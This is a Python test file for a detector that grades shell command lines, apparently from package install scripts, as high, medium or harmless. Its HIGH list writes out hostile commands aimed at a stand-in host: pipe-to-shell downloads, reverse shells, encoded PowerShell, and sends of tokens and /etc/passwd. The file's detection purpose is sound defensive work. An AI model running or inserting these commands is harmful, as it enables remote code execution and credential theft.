from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assay.detectors._command_line import MAX_COMMAND, shape_of
from assay.model.rule import Confidence, Severity

HIGH = [
    "exec(urllib.request.urlopen('https://a.invalid/x').read())",
    "exec(__import__('base64').b64decode('cHJpbnQoMSk='))",
    "curl -s https://a.invalid/x | sh",
    "wget -qO- a.invalid/x|sudo bash",
    "curl a.invalid/x.js | node -",
    'bash -c "$(curl -fsSL https://a.invalid/x)"',
    "sh <(wget -qO- https://a.invalid/x)",
    "curl -o /tmp/x https://a.invalid/x && chmod +x /tmp/x && /tmp/x",
    "curl https://a.invalid/?u=$(whoami)",
    "curl -H 'x: '$NPM_TOKEN https://a.invalid",
    "curl --data-binary @/etc/passwd https://a.invalid",
    "nslookup $(hostname).a.invalid",
    "ping %USERNAME%.a.invalid",
    "echo aGk= | base64 --decode | bash",
    "powershell -nop -w hidden -enc AAAA",
    "powershell.exe Invoke-WebRequest https://a.invalid -OutFile a.exe",
    "certutil -urlcache -f https://a.invalid/a.exe a.exe",
    "mshta https://a.invalid/a.hta",
    "bash -i >& /dev/tcp/a.invalid/443 0>&1",
    "nc a.invalid 443 -e /bin/sh",
    "node -e \"require('https').get('https://a.invalid')\"",
    "node --eval \"fetch('https://a.invalid')\"",
    "node -e \"eval(Buffer.from('aGk=', 'base64').toString())\"",
]
MEDIUM = [
    "curl -L https://a.invalid/x.tar.gz -o x.tar.gz",
    "curl -L https://a.invalid/x-$(uname -s).tar.gz",
    "node -e \"require('child_process').execSync('make')\"",
    "python3 -c 'import setup'",
    "node ./assets/logo.png",
    "nohup node server.js",
    "node server.js &",
]
QUIET = [
    "",
    "node install.js",
    "node-gyp rebuild || exit 0",
    "node -e \"try{require('./postinstall')}catch(e){}\"",
    "node -p \"require('node-addon-api').include\"",
    "pkg-config --libs libcurl",
    "npm run build && node dist/index.js",
    "node scripts/fetch.js https://a.invalid",
    "tsc && cp a b 2>&1",
    "husky install",
]


@pytest.mark.parametrize("line", HIGH)
def test_lines_that_no_honest_script_has(line: str) -> None:
    shape = shape_of(line)
    assert shape is not None
    assert (shape.severity, shape.confidence) == (Severity.HIGH, Confidence.HIGH)


@pytest.mark.parametrize("line", MEDIUM)
def test_lines_that_few_honest_scripts_have(line: str) -> None:
    shape = shape_of(line)
    assert shape is not None
    assert shape.severity is Severity.MEDIUM


@pytest.mark.parametrize("line", QUIET)
def test_lines_that_honest_scripts_have(line: str) -> None:
    assert shape_of(line) is None


def test_blanks_do_not_hide_what_follows() -> None:
    shape = shape_of("node a.js;" + " " * 100_000 + "curl https://a.invalid | sh")
    assert shape is not None
    assert "pipes" in shape.what


def test_a_line_too_long_to_read_is_told() -> None:
    shape = shape_of("x" * (MAX_COMMAND + 1))
    assert shape is not None
    assert "too long" in shape.what


@settings(deadline=None)
@given(st.text(max_size=300))
def test_any_line_is_survived(line: str) -> None:
    shape = shape_of(line)
    assert shape is None or shape.what


@settings(deadline=None)
@given(st.sampled_from(HIGH), st.text("abc -./", max_size=40))
def test_what_stands_in_front_takes_nothing_away(line: str, before: str) -> None:
    shape = shape_of(f"{before}; {line}")
    assert shape is not None
    assert shape.severity is Severity.HIGH
